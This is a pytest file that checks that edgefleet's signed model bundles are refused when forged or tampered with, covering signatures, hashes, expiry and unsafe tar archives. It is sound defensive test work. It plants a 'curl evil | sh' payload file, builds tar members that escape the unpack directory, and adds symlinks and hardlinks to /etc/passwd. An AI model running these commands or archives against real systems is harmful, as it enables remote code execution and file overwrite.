"""Every way a bundle can be forged or damaged is refused, each with its own reason and message."""

from __future__ import annotations

import io
import json
import os
import tarfile
from datetime import timedelta
from pathlib import Path

import pytest

from edgefleet.core.bundle import SIGNATURE, Bundle, sign, write_manifest
from edgefleet.core.canonical import utc_now
from edgefleet.core.errors import BundleError, VerificationError
from edgefleet.core.signing import SigningKey, TrustStore


@pytest.fixture
def trust(digits_bundle) -> TrustStore:
    return TrustStore.from_paths([digits_bundle.public_key])


def refused(root: Path, trust: TrustStore, reason: str, **kwargs) -> str:
    with pytest.raises(VerificationError) as caught:
        Bundle.open(root).verify(trust, **kwargs)
    assert caught.value.reason == reason, str(caught.value)
    return str(caught.value)


def test_untouched_bundle_verifies(bundle_copy, trust, digits_bundle):
    verified = Bundle.open(bundle_copy).verify(trust)
    assert verified.name == "digits-cnn" and verified.version == 1
    assert verified.key_id == SigningKey.load(digits_bundle.private_key).key_id


def test_flipped_byte_in_model(bundle_copy, trust):
    model = bundle_copy / "model.onnx"
    data = bytearray(model.read_bytes())
    data[len(data) // 2] ^= 0x01
    model.write_bytes(bytes(data))
    assert "model.onnx has sha256" in refused(bundle_copy, trust, "hash_mismatch")


def test_appended_bytes(bundle_copy, trust):
    with (bundle_copy / "golden.npz").open("ab") as handle:
        handle.write(b"\0")
    message = refused(bundle_copy, trust, "size_mismatch")
    assert "golden.npz" in message and "bytes" in message


def test_edited_manifest(bundle_copy, trust):
    manifest = json.loads((bundle_copy / "manifest.json").read_text())
    manifest["version"] = 99
    (bundle_copy / "manifest.json").write_text(json.dumps(manifest))
    assert "changed after signing" in refused(bundle_copy, trust, "bad_signature")


def test_manifest_whitespace_only_change_still_verifies(bundle_copy, trust):
    """The signature covers the canonical manifest, not its formatting."""
    manifest = json.loads((bundle_copy / "manifest.json").read_text())
    (bundle_copy / "manifest.json").write_text(json.dumps(manifest, indent=7))
    Bundle.open(bundle_copy).verify(trust)


def test_stripped_signature(bundle_copy, trust):
    (bundle_copy / SIGNATURE).unlink()
    assert "not signed" in refused(bundle_copy, trust, "missing_signature")


def test_corrupted_signature_bytes(bundle_copy, trust):
    doc = json.loads((bundle_copy / SIGNATURE).read_text())
    doc["signature"] = doc["signature"][:-8] + ("A" * 7) + "="
    (bundle_copy / SIGNATURE).write_text(json.dumps(doc))
    assert "does not verify" in refused(bundle_copy, trust, "bad_signature")


def test_extended_expiry_breaks_signature(bundle_copy, trust):
    doc = json.loads((bundle_copy / SIGNATURE).read_text())
    doc["expires_at"] = "2099-01-01T00:00:00Z"
    (bundle_copy / SIGNATURE).write_text(json.dumps(doc))
    refused(bundle_copy, trust, "bad_signature")


def test_signature_swapped_from_another_bundle(bundle_copy, trust, digits_bundle, tmp_path):
    """A valid signature by the trusted key, but over a different manifest."""
    other = tmp_path / "other"
    other.mkdir()
    (other / "weights.bin").write_bytes(b"other model")
    write_manifest(other, {"name": "other", "version": 1})
    other_doc = sign(other, SigningKey.load(digits_bundle.private_key))
    (bundle_copy / SIGNATURE).write_text(json.dumps(other_doc))
    refused(bundle_copy, trust, "bad_signature")


def test_resigned_by_unknown_key(bundle_copy, trust):
    attacker = SigningKey.generate()
    sign(bundle_copy, attacker)
    message = refused(bundle_copy, trust, "unknown_key")
    assert attacker.key_id in message


def test_expired_signature(bundle_copy, trust, digits_bundle):
    sign(bundle_copy, SigningKey.load(digits_bundle.private_key), timedelta(seconds=-1))
    assert "expired at" in refused(bundle_copy, trust, "expired")


def test_expiry_is_checked_against_the_clock(bundle_copy, trust):
    refused(bundle_copy, trust, "expired", now=utc_now() + timedelta(days=365))


def test_missing_file(bundle_copy, trust):
    (bundle_copy / "golden.npz").unlink()
    assert "golden.npz is listed" in refused(bundle_copy, trust, "missing_file")


def test_file_not_in_manifest(bundle_copy, trust):
    (bundle_copy / "payload.sh").write_text("curl evil | sh\n")
    assert "payload.sh" in refused(bundle_copy, trust, "unlisted_file")


def test_symlinked_file_in_directory(bundle_copy, trust, tmp_path):
    outside = tmp_path / "outside.onnx"
    outside.write_bytes((bundle_copy / "model.onnx").read_bytes())
    (bundle_copy / "model.onnx").unlink()
    os.symlink(outside, bundle_copy / "model.onnx")
    assert "symlink" in refused(bundle_copy, trust, "unsafe_path")


def test_version_not_newer_than_installed(bundle_copy, trust):
    assert "not newer than the installed v1" in refused(bundle_copy, trust, "not_newer", installed_version=1)
    Bundle.open(bundle_copy).verify(trust, installed_version=0)


def test_unknown_schema_version(bundle_copy):
    manifest = json.loads((bundle_copy / "manifest.json").read_text())
    manifest["schema_version"] = 7
    (bundle_copy / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(BundleError, match="schema_version 7; this edgefleet reads schema_version 1"):
        Bundle.open(bundle_copy)


def test_malformed_manifest(bundle_copy):
    (bundle_copy / "manifest.json").write_text("{not json")
    with pytest.raises(BundleError, match="not valid JSON"):
        Bundle.open(bundle_copy)


def test_empty_trust_store_refuses(bundle_copy):
    assert "none" in refused(bundle_copy, TrustStore(), "unknown_key")


# --- archives ---------------------------------------------------------------------------------------
def test_archive_round_trip(bundle_copy, trust, tmp_path):
    archive = Bundle.open(bundle_copy).pack(tmp_path / "digits.tar.gz")
    opened = Bundle.open(archive)
    assert opened.verify(trust).version == 1
    assert sorted(opened.manifest["files"]) == ["golden.npz", "model.onnx", "profile.json"]


def _evil_archive(bundle_root: Path, out: Path, member: tarfile.TarInfo, data: bytes = b"x") -> Path:
    with tarfile.open(out, "w:gz") as tar:
        for name in ("manifest.json", SIGNATURE, "model.onnx"):
            tar.add(bundle_root / name, arcname=name)
        tar.addfile(member, io.BytesIO(data) if member.isfile() else None)
    return out


@pytest.mark.parametrize(
    ("name", "kind", "linkname", "expected"),
    [
        ("../escape.txt", tarfile.REGTYPE, "", "escapes the bundle with '..'"),
        ("sub/../../escape.txt", tarfile.REGTYPE, "", "escapes the bundle with '..'"),
        ("/etc/evil.txt", tarfile.REGTYPE, "", "absolute path"),
        ("golden.npz", tarfile.SYMTYPE, "/etc/passwd", "is a symlink"),
        ("golden.npz", tarfile.LNKTYPE, "/etc/passwd", "is a hardlink"),
        ("fifo", tarfile.FIFOTYPE, "", "not a regular file"),
    ],
)
def test_unsafe_archive_members(digits_bundle, tmp_path, name, kind, linkname, expected):
    member = tarfile.TarInfo(name)
    member.type = kind
    member.linkname = linkname
    member.size = 1 if kind == tarfile.REGTYPE else 0
    archive = _evil_archive(digits_bundle.root, tmp_path / "evil.tar.gz", member)
    dest = tmp_path / "unpacked"
    with pytest.raises(VerificationError, match=expected) as caught:
        Bundle.open(archive, unpack_to=dest)
    assert caught.value.reason == "unsafe_path"
    assert not dest.exists(), "a refused archive must leave nothing behind"
    assert not (tmp_path / "escape.txt").exists()


def test_archive_size_cap(digits_bundle, tmp_path):
    archive = Bundle.open(digits_bundle.root).pack(tmp_path / "b.tar.gz")
    with pytest.raises(VerificationError, match="more than 1000 bytes") as caught:
        Bundle.open(archive, max_bytes=1000)
    assert caught.value.reason == "too_large"


def test_corrupt_archive(digits_bundle, tmp_path):
    archive = Bundle.open(digits_bundle.root).pack(tmp_path / "b.tar.gz")
    data = archive.read_bytes()
    archive.write_bytes(data[: len(data) // 2])
    with pytest.raises(BundleError, match="corrupt|not a readable"):
        Bundle.open(archive)
